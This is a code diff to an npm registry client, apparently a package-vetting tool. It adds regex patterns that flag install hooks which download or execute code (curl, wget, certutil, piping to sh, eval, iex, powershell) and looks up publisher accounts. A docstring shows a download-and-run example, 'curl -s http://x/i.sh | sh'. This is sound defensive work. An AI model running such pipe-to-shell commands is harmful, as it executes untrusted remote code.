@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import io
 import json
+import re
 import tarfile
 from datetime import date, datetime
 from typing import Any, ClassVar
@@ -36,6 +37,26 @@ MAX_CHANGES = 10_000
 #: Bisection steps when locating a start time in `_changes` (each: one small page and one abbreviated document).
 PROBES = 14
 ABBREVIATED = "application/vnd.npm.install-v1+json"
+
+
+_FETCH_CMD = re.compile(r"\b(curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|certutil)\b|https?://", re.IGNORECASE)
+_EXEC_CMD = re.compile(r"\|\s*(ba|z|da)?sh\b|\b(ba)?sh\s+-c\b|\bnode\s+-e\b|\bpython3?\s+-c\b|\beval\b|\biex\b|"
+                       r"\bpowershell\b|\bchmod\s+\+x\b", re.IGNORECASE)
+
+
+def script_behaviour(scripts: dict[str, Any]) -> tuple[str, ...]:
+    """What the install hooks' command lines do (`runs-commands`, `downloads`, `executes-code`); () without hooks.
+
+    `curl -s http://x/i.sh | sh` downloads and runs; `node install.js` runs a file of the package (not read)."""
+    text = " ; ".join(v for h in _HOOKS if isinstance(v := scripts.get(h), str))
+    if not text:
+        return ()
+    tags = ["runs-commands"]
+    if _FETCH_CMD.search(text):
+        tags.append("downloads")
+    if _EXEC_CMD.search(text):
+        tags.append("executes-code")
+    return tuple(tags)
 
 
 def registry_path(pkg: PackageId) -> str:
@@ -70,7 +91,14 @@ class NpmRegistry(BaseRegistry):
                 "downloads",
             )
             downloads = as_int(as_dict(point).get("downloads"))
-        return parse_packument(self, pkg, doc, downloads, errors)
+        meta = parse_packument(self, pkg, doc, downloads, errors)
+        return self.with_account(meta, publisher(doc), self._account_packages)
+
+    def _account_packages(self, user: str) -> int | None:
+        """How many packages the registry's search lists for maintainer `user` (one request, `total`)."""
+        data = self.http.get_json(f"{self.url('npm')}/-/v1/search", params={"text": f"maintainer:{user}", "size": 1},
+                                  conditional=False)
+        return as_int(as_dict(data).get("total"))
 
     def feed(self, cursor: str | None, *, limit: int = DEFAULT_FEED_LIMIT) -> FeedPage:
         """Replication changes after `cursor` (exclusive `since`); None starts `limit` changes before the head.
@@ -249,6 +277,15 @@ def _repo(value: Any) -> str | None:
     return nonempty(value) if isinstance(value, str) else nonempty(as_dict(value).get("url"))
 
 
+def publisher(doc: Any) -> str | None:
+    """The account that published the latest version (`_npmUser`), else the first maintainer."""
+    d = as_dict(doc)
+    latest = as_str(as_dict(d.get("dist-tags")).get("latest"))
+    user = as_dict(as_dict(as_dict(d.get("versions")).get(latest)).get("_npmUser")) if latest else {}
+    first = next(iter(as_list(d.get("maintainers"))), None)
+    return as_str(user.get("name")) or as_str(first.get("name") if isinstance(first, dict) else first)
+
+
 def parse_packument(
     reg: BaseRegistry, pkg: PackageId, doc: Any, downloads: int | None = None, errors: list[str] | None = None
 ) -> PackageMetadata:
@@ -299,6 +336,7 @@ def parse_packument(
             deprecation_message=deprecated_msg if isinstance(deprecated_msg, str) and deprecated_msg else None,
             security_holding=holding,
             install_scripts=any(h in scripts for h in _HOOKS) if manifest else None,
+            install_behaviour=script_behaviour(scripts) if manifest else None,
             authors=_person(doc.get("author")) or (_person(manifest.get("author")) if manifest else None),
             extra=extra,
         )
